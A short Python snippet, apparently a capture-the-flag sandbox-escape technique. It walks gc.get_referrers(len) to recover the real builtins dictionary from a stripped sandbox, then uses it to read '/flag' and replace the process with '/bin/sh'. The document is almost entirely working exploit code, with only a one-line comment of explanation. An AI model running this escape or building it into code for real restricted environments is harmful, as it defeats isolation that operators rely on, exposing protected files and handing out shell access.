# technique: gc.get_referrers(len) finds the real builtins dict even when the sandbox gave us a stripped one
import gc

for ref in gc.get_referrers(len):
    if isinstance(ref, dict) and "__import__" in ref and "open" in ref:
        os_mod = ref["__import__"]("os")
        print(ref["open"]("/flag").read())
        os_mod.execv("/bin/sh", ["sh"])
